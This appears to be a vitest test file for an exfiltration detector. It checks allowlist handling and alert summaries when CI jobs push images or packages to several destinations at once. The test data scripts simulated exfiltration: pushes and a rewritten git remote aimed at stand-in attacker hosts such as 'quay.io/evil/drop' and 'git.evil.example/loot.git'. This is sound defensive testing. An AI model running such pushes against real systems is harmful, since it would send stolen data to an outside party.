/**
 * A push to several destinations at once (buildx's `-t A -t B --push`, an image output's `name=A,B`, kaniko's
 * `--destination A --destination B`, buildctl's output) is exempt when EVERY destination is covered by some
 * allowlist entry that matches the rest of the push (namespace, binary…), each destination by its own entry
 * if need be: a release job pushing one image to two registries the operator allowlisted, each in its entry.
 * One destination no entry covers makes the alert, and its summary names that destination.
 */
import { describe, expect, it } from 'vitest';
import type { AllowlistEntry } from '../../../src/correlate/allowlist-schema.js';
import { MAX_OTHER_REMOTES } from '../../../src/correlate/push-dests.js';
import { counterValue, MiB, run, Scenario } from './builder.js';
import { ciPushAlerts } from './ci-push.js';

type Entry = Omit<AllowlistEntry, 'reason'>;

/** A CI job's push (./ci-push.ts) under `entries`, each with the reason 'release'; `cut`: its argv cut by the sensor. */
function push(binary: string, args: string, entries: readonly Entry[], cut = false) {
  return ciPushAlerts(
    binary,
    args,
    entries.map((e) => ({ ...e, reason: 'release' })),
    cut,
  );
}

/** The push's forms, each naming the refs `a` and `b` as its destinations. */
const forms: ReadonlyArray<readonly [string, string, (a: string, b: string) => string]> = [
  ['buildx -t -t --push', '/usr/bin/docker', (a, b) => `buildx build --push -t ${a} -t ${b} /srv/ctx`],
  ['buildx name= list', '/usr/bin/docker', (a, b) => `buildx build --output type=image,"name=${a},${b}",push=true .`],
  [
    'buildctl name= list',
    '/usr/bin/buildctl',
    (a, b) => `build --frontend dockerfile.v0 --local context=. --output type=image,"name=${a},${b}",push=true`,
  ],
  ['kaniko', '/kaniko/executor', (a, b) => `--context dir:///srv/ctx --destination ${a} --destination ${b}`],
];

const ghcr = 'ghcr.io/acme/app:1';
const quay = 'quay.io/acme/app:1';
const evil = 'quay.io/evil/drop:1';

describe('a push to several destinations, each allowlisted', () => {
  for (const [name, binary, args] of forms) {
    it(`${name}: exempt when each destination has its own host or path entry`, () => {
      const hosts = [
        { namespace: 'ci', destination: 'ghcr.io' },
        { namespace: 'ci', destination: 'quay.io' },
      ];
      const paths = [
        { namespace: 'ci', destination: 'ghcr.io/acme/*' },
        { namespace: 'ci', destination: 'quay.io/acme/*' },
      ];
      expect(push(binary, args(ghcr, quay), hosts)).toEqual([]);
      expect(push(binary, args(quay, ghcr), hosts)).toEqual([]);
      expect(push(binary, args(ghcr, quay), paths)).toEqual([]);
      // One of each kind.
      expect(push(binary, args(ghcr, quay), [hosts[0]!, paths[1]!])).toEqual([]);
      // An entry without a destination covers every one.
      expect(push(binary, args(ghcr, evil), [{ namespace: 'ci' }])).toEqual([]);
    });

    it(`${name}: alerts, naming it, when one destination is covered by no entry matching the push`, () => {
      const ghcrOnly = [{ namespace: 'ci', destination: 'ghcr.io' }];
      for (const alerts of [
        push(binary, args(ghcr, evil), ghcrOnly),
        push(binary, args(evil, ghcr), ghcrOnly),
        push(binary, args(ghcr, evil), [
          { namespace: 'ci', destination: 'ghcr.io/acme/*' },
          { namespace: 'ci', destination: 'quay.io/acme/*' },
        ]),
        // quay.io's entry is for another namespace: it does not cover this push's quay.io destination.
        push(binary, args(ghcr, evil), [...ghcrOnly, { namespace: 'prod', destination: 'quay.io' }]),
      ]) {
        expect(alerts).toHaveLength(1);
        expect(alerts[0]!.summary).toContain(`not allowlisted: ${evil}`);
      }
      // Neither covered: the plain alert, as for a push no entry matches.
      const none = push(binary, args(ghcr, evil), [{ namespace: 'ci', destination: 'gitlab.com' }]);
      expect(none).toHaveLength(1);
      expect(none[0]!.summary).not.toContain('not allowlisted');
    });
  }
});

describe('a push whose argv the sensor cut (Falco keeps 4 KiB)', () => {
  // `--destination ghcr.io/acme/app:1 --label pad=<4 KiB> --destination quay.io/evil/drop:1`, as Falco shows it.
  it('is exempt by no host or path entry: destinations past the cut are not seen', () => {
    for (const [, binary, args] of forms) {
      const shown = args(ghcr, quay);
      const hosts = [
        { namespace: 'ci', destination: 'ghcr.io' },
        { namespace: 'ci', destination: 'quay.io' },
      ];
      expect(push(binary, shown, hosts, false), shown).toEqual([]);
      const alerts = push(binary, shown, hosts, true);
      expect(alerts, shown).toHaveLength(1);
      expect(alerts[0]!.summary).toContain('not allowlisted: (argv cut by the sensor');
      // An entry naming no destination still covers it.
      expect(push(binary, shown, [{ namespace: 'ci' }], true), shown).toEqual([]);
    }
  });
});

describe('a host flag given twice', () => {
  // The tools' parsers take the last (pflag, nopt, argparse): the first named the destination an entry matched.
  it('names no host an entry could match when its occurrences disagree, and each remote is judged by its own host', () => {
    const npm = (registries: readonly string[]) =>
      push('/usr/bin/npm', `publish ${registries.map((r) => `--registry ${r}`).join(' ')}`, [
        { namespace: 'ci', destination: 'registry.npmjs.org' },
      ]);
    expect(npm(['https://registry.npmjs.org/'])).toEqual([]);
    expect(npm(['https://registry.npmjs.org/', 'https://registry.npmjs.org/'])).toEqual([]);
    expect(npm(['https://registry.npmjs.org/', 'https://npm.evil.example/'])).toHaveLength(1);
    expect(npm(['https://npm.evil.example/', 'https://registry.npmjs.org/'])).toHaveLength(1);
    // cosign's --rekor-url is both its remote flag and its host flag: the other URL was judged as the first's host.
    const rekor = (urls: readonly string[]) =>
      push(
        '/usr/bin/cosign',
        `attest-blob --predicate /srv/data/p.json ${urls.map((u) => `--rekor-url ${u}`).join(' ')} --yes blob.tgz`,
        [{ namespace: 'ci', destination: 'rekor.sigstore.dev' }],
      );
    expect(rekor(['https://rekor.sigstore.dev'])).toEqual([]);
    expect(rekor(['https://rekor.sigstore.dev', 'https://rekor.evil.example'])).toHaveLength(1);
  });
});

describe('the allowlist metrics of a push exempt by several entries', () => {
  it('count it once by rule, and once under each reason, two entries sharing one counting once', async () => {
    const counts = async (reasons: readonly [string, string]) => {
      const s = new Scenario();
      const c = s.container({ namespace: 'ci' });
      const sh = s.init(c);
      s.readMany(sh, '/srv/data', 100, MiB);
      const p = s.exec(c, '/kaniko/executor', `--context dir:///srv/ctx --destination ${ghcr} --destination ${quay}`, {
        parent: sh,
      });
      s.send(p, '140.82.114.33', 443, 40 * MiB)
        .wait(300)
        .exit(p);
      const { alerts, metrics } = run(s.events, {
        allowlist: [
          { namespace: 'ci', destination: 'ghcr.io', reason: reasons[0] },
          { namespace: 'ci', destination: 'quay.io', reason: reasons[1] },
        ],
      });
      expect(alerts).toEqual([]);
      const matches = (reason: string) => counterValue(metrics, 'exfilwatch_allowlist_matches_total', { reason });
      return {
        rule: await counterValue(metrics, 'exfilwatch_alerts_allowlisted_total', { rule: 'bulk-read-then-push' }),
        first: await matches(reasons[0]),
        second: await matches(reasons[1]),
      };
    };
    expect(await counts(['ghcr', 'quay'])).toEqual({ rule: 1, first: 1, second: 1 });
    expect(await counts(['release', 'release'])).toEqual({ rule: 1, first: 1, second: 1 });
  });
});

describe('the summary of a push to many destinations', () => {
  it('names the first three no entry covers and counts the rest: argv may name hundreds', () => {
    const evil = Array.from({ length: 60 }, (_, i) => `quay.io/evil${i}/drop:${i}`);
    const kaniko = `--context dir:///srv/ctx ${[ghcr, ...evil].map((d) => `--destination ${d}`).join(' ')}`;
    const alerts = push('/kaniko/executor', kaniko, [{ namespace: 'ci', destination: 'ghcr.io' }]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.summary).toContain(`not allowlisted: ${evil.slice(0, 3).join(', ')} and 57 more (`);
    expect(alerts[0]!.summary).not.toContain(evil[3]!);
    expect(alerts[0]!.summary.length).toBeLessThan(600);
  });
});

describe("a push git's own step shows going elsewhere (url.<base>.insteadOf, pushInsteadOf)", () => {
  const url = 'https://github.com/acme/app.git';
  const helper = '/usr/lib/git-core/git-remote-https';
  const stepTo = (rewritten: string, entries: readonly Entry[]) => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/repo', 100, MiB);
    const git = s.exec(c, '/usr/bin/git', `push ${url} HEAD:main`, { parent: sh });
    const t = s.exec(c, helper, `${url} ${rewritten}`, { parent: git });
    s.connect(t, '203.0.113.66', 443)
      .send(t, '203.0.113.66', 443, 60 * MiB)
      .wait(300)
      .exit(t)
      .exit(git);
    return run(s.events, { allowlist: entries.map((e) => ({ ...e, reason: 'mirror' })) }).alerts;
  };

  it('is exempt by a host entry only when it covers the host the step names too', () => {
    const github = [{ namespace: 'ci', destination: 'github.com' }];
    expect(stepTo(url, github)).toEqual([]);
    expect(stepTo('https://github.com/evil/loot.git', github)).toEqual([]);
    // Exempt before: the host entry was tested on the host git's own argv named.
    const alerts = stepTo('https://git.evil.example/loot.git', github);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.summary).toContain('not allowlisted: https://git.evil.example/loot.git');
    expect(stepTo('https://git.evil.example/loot.git', [...github, { destination: 'git.evil.example' }])).toEqual([]);
  });

  it('keeps a bounded number of step destinations, and one past them is covered by no host or path entry', () => {
    const steps = (n: number) => {
      const s = new Scenario();
      const c = s.container({ namespace: 'ci' });
      const sh = s.init(c);
      s.readMany(sh, '/srv/repo', 100, MiB);
      const git = s.exec(c, '/usr/bin/git', `push ${url} HEAD:main`, { parent: sh });
      for (let i = 0; i < n; i++) {
        const t = s.exec(c, helper, `${url} https://github.com/acme/r${i}.git`, { parent: git });
        s.send(t, '140.82.112.3', 443, MiB).exit(t);
      }
      s.wait(300).exit(git);
      return run(s.events, { allowlist: [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }] }).alerts;
    };
    expect(steps(MAX_OTHER_REMOTES)).toEqual([]);
    const past = steps(MAX_OTHER_REMOTES + 1);
    expect(past).toHaveLength(1);
    expect(past[0]!.summary).toContain(`more than ${MAX_OTHER_REMOTES} destinations`);
  });
});

/**
 * kaniko in namespace `ci` pushing to `destinations` under one entry for 10.0.0.0/8, connecting to `ips` (a FROM pull
 * among them, maybe) and sending nothing the sensor counts (Falco without its byte rules).
 */
function kanikoTo(destinations: readonly string[], ips: readonly string[]) {
  const s = new Scenario();
  const c = s.container({ namespace: 'ci' });
  const sh = s.init(c);
  s.readMany(sh, '/srv/data', 100, MiB);
  const args = `--context dir:///srv/ctx ${destinations.map((d) => `--destination ${d}`).join(' ')}`;
  const p = s.exec(c, '/kaniko/executor', args, { parent: sh });
  for (const ip of ips) s.connect(p, ip, 443);
  s.wait(300).exit(p);
  return run(s.events, { allowlist: [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'internal' }] }).alerts;
}

describe('a CIDR entry and a push to several destinations with no bytes counted (Falco without its byte rules)', () => {
  it('covers a destination named by host only when the addresses no destination names are in the range', () => {
    const alerts = kanikoTo(['10.20.0.5/acme/app:1', 'quay.io/evil/x:1'], ['10.20.0.5', '44.193.181.103']);
    // 10.20.0.5's destination is judged by its own address; quay.io's by 44.193.181.103, outside the range.
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.summary).toContain('not allowlisted: quay.io/evil/x:1');
  });

  it('still exempts a push to two registries inside the range, and one destination reached in it', () => {
    expect(kanikoTo(['10.20.0.5/acme/app:1', '10.30.0.7/acme/app:1'], ['10.20.0.5', '10.30.0.7'])).toEqual([]);
    expect(kanikoTo(['10.20.0.5/acme/app:1'], ['10.20.0.5'])).toEqual([]);
  });
});

describe('a CIDR entry, several destinations, no bytes counted, and addresses no destination named', () => {
  it('exempts a release job to two registries argv names by address in the range, whatever FROM it pulled', () => {
    // 44.193.181.103: registry-1.docker.io, the base image kaniko pulls itself before it pushes.
    const alerts = kanikoTo(
      ['10.20.0.5/acme/app:1', '10.30.0.7/acme/app:1'],
      ['44.193.181.103', '10.20.0.5', '10.30.0.7'],
    );
    expect(alerts).toEqual([]);
  });

  it('does not take the address a named-by-IP destination reached for a named one judged before it connected', () => {
    const alerts = kanikoTo(['10.20.0.5/acme/app:1', 'quay.io/evil/x:1'], ['10.20.0.5']);
    expect(alerts.map((a) => a.summary.includes('quay.io/evil/x:1'))).toEqual([true]);
  });

  it('still alerts on a named destination another address may have served, naming it', () => {
    const alerts = kanikoTo(['10.20.0.5/acme/app:1', 'quay.io/evil/x:1'], ['10.20.0.5', '44.193.181.103']);
    expect(alerts.map((a) => a.summary.includes('quay.io/evil/x:1'))).toEqual([true]);
  });
});
